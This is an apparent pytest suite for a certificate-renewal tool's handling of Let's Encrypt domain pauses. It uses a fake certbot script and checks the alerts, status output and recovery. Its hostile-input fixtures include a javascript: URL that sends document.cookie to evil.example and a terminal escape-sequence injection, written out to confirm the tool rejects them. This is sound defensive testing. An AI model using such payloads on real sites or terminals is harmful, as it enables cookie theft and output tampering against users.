"""A name the CA paused, against real nginx, pebble and SMTP.

Pebble never pauses, so certbot.command names a certbot-shaped script: it writes each
call to a file and, while the pause flag exists, answers for `blog` with Let's Encrypt's
own problem document and the lines certbot prints for it; everything else it hands to
the real certbot, which renews against pebble.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from support.host import SHOP, Host, dump, make_due
from support.peers import age_lineage, certbot_path

BLOG = ("blog.example.test",)
LINK = (
    "https://portal.letsencrypt.org/sfe/v1/unpause?jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    ".eyJhcGl2ZXJzaW9uIjoidjEiLCJzdWIiOiIxMjM0NSIsImkiOiJibG9nLmV4YW1wbGUudGVzdCJ9.c2ln"
)


def problem(link: str) -> str:
    """What certbot shows of the CA's 429: the problem document (as -v logs the response
    body), then its own three lines. The detail is Boulder's (wfe2/wfe.go) word for word."""
    detail = (
        f"Your account is temporarily prevented from requesting certificates for {BLOG[0]} "
        f"and possibly others. Please visit: {link}"
    )
    doc = {"type": "urn:ietf:params:acme:error:rateLimited", "detail": detail, "status": 429}
    return (
        json.dumps(doc, indent=2)
        + "\nAn unexpected error occurred:\n"
        + detail
        + "\nAsk for help or search for solutions at https://community.letsencrypt.org. See the "
        "logfile /var/log/letsencrypt/letsencrypt.log or re-run Certbot with -v for more details.\n"
    )


def pausing_certbot(host: Host, link: str) -> tuple[Path, Path]:
    """The script, in place as certbot.command; returns (its call log, the pause flag)."""
    calls, flag, said = host.root / "certbot-calls", host.root / "paused", host.root / "problem"
    said.write_text(problem(link))
    script = host.root / "certbot-pausing"
    script.write_text(
        "#!/bin/sh\n"
        f'echo "$*" >> {calls}\n'
        'case " $* " in *" --cert-name blog "*)\n'
        f"  if [ -e {flag} ]; then cat {said} >&2; exit 1; fi;;\n"
        "esac\n"
        f'exec {certbot_path()} "$@"\n'
    )
    script.chmod(0o755)
    host.certbot_command = [str(script)]
    host.write()
    return calls, flag


def blog_calls(calls: Path) -> int:
    return sum("--cert-name blog" in line for line in calls.read_text().splitlines())


def blog_row(proc_stdout: str) -> dict[str, object]:
    rows = json.loads(proc_stdout)["certificates"]
    [row] = [r for r in rows if r["cert_name"] == "blog"]
    return dict(row)


def test_a_paused_name_is_told_held_shown_and_resumed(host: Host) -> None:
    calls, flag = pausing_certbot(host, LINK)
    host.add("shop", *SHOP)
    host.add("blog", *BLOG)
    first = host.check()
    assert first.returncode == 0, dump(first)
    host.smtp.catcher.raw.clear()

    age_lineage(host.le, "blog", days_left=20)
    host.edit_state("blog", last_attempt="2000-01-01T00:00:00Z")
    host.nginx.reload()
    flag.touch()
    paused = host.check()
    assert paused.returncode == 1, dump(paused)
    assert f"blog: certbot failed: paused by the CA: fix the cause, then visit {LINK}" in (
        paused.stderr
    )
    [card] = host.mails
    assert card["Subject"].startswith("[ERROR]") and BLOG[0] in card["Subject"]
    text = card.get_content().splitlines()
    assert text[0] == f"paused by the CA: fix the cause, then visit {LINK}"
    assert text[2] == f"Certificate renewal for {BLOG[0]} FAILED."
    assert "rate limit hit" not in card.get_content()  # no back-off ends a pause
    kept = host.state()["certs"]["blog"]["paused"]
    assert kept["link"] == LINK
    assert blog_calls(calls) == 2  # the issuance, then the renewal the CA refused

    # Even --force over every service leaves the paused name alone; shop still renews.
    make_due(host)
    held = host.check("--force")
    assert held.returncode == 1, dump(held)
    assert "shop: renewed; nginx now serves it" in held.stdout
    assert f"paused by the CA: fix the cause, then visit {LINK}" in held.stderr
    assert "then `certkeeper check --force --only blog` tries again" in held.stderr
    assert blog_calls(calls) == 2
    assert host.served_serial(SHOP[0]) == host.disk_serial("shop")

    table = host.run("status", "--wide")  # the NOTE whole, not shortened to 120 columns
    assert table.returncode == 1, dump(table)  # WARNING: weeks left, a person must act
    line = next(x for x in table.stdout.splitlines() if x.startswith("blog "))
    assert " PAUSED " in line and "paused by the CA since" in line
    assert f"blog: paused by the CA: fix the cause, then visit {LINK}" in table.stdout
    assert "  then `certkeeper check --force --only blog` tries again" in table.stdout
    row = blog_row(host.run("status", "--json").stdout)
    assert row["state"] == "PAUSED"
    assert row["paused"] == {"since": kept["since"], "unpause_link": LINK}

    # The person fixed the cause and followed the link: the CA answers again.
    flag.unlink()
    resumed = host.check("--force", "--only", "blog")
    assert resumed.returncode == 0, dump(resumed)
    assert "blog: --force --only lifts the CA's pause; certbot asks again" in resumed.stdout
    assert "blog: renewed; nginx now serves it" in resumed.stdout
    assert blog_calls(calls) == 3
    assert host.state()["certs"]["blog"]["paused"] is None
    assert blog_row(host.run("status", "--json").stdout)["state"] == "OK"


HOSTILE = {
    "control characters": (LINK.replace("jwt=", "jwt=\x1b[2J\x1b[H"), "not printable ASCII"),
    "10 kB": (LINK + "A" * 10_000, "longer than 2048 characters"),
    "http": (LINK.replace("https:", "http:"), "not an https:// URL"),
    "javascript": ("javascript:fetch('//evil.example/'+document.cookie)", "not an https:// URL"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_unpause_link_is_refused_everywhere(host: Host, kind: str) -> None:
    link, why = HOSTILE[kind]
    calls, flag = pausing_certbot(host, link)
    flag.touch()
    host.add("blog", *BLOG)
    proc = host.check()
    assert proc.returncode == 1, dump(proc)
    lead = "paused by the CA: fix the cause, then unpause it with the link in certbot's log"
    assert f"blog: certbot failed: {lead}" in proc.stderr
    assert host.state()["certs"]["blog"]["paused"]["link"] is None
    [card] = host.mails
    text = card.get_content()
    assert text.splitlines()[0].startswith(lead)
    assert f"Note: the CA paused the name; the link in it was refused: {why}" in text
    assert b"\x1b" not in host.smtp.catcher.raw[0]
    status = host.run("status")
    json_status = host.run("status", "--json")
    for out in (proc.stdout, proc.stderr, status.stdout, status.stderr, json_status.stdout):
        assert "\x1b" not in out and link not in out
    # Never issued: MISSING outranks PAUSED, and says the pause.
    row = blog_row(json_status.stdout)
    assert row["state"] == "MISSING" and "paused by the CA" in str(row["reason"])
    assert row["paused"] == {
        "since": host.state()["certs"]["blog"]["paused"]["since"],
        "unpause_link": None,
    }
    assert f"blog: {lead}" in status.stdout
    again = host.check("--force")
    assert blog_calls(calls) == 1, dump(again)
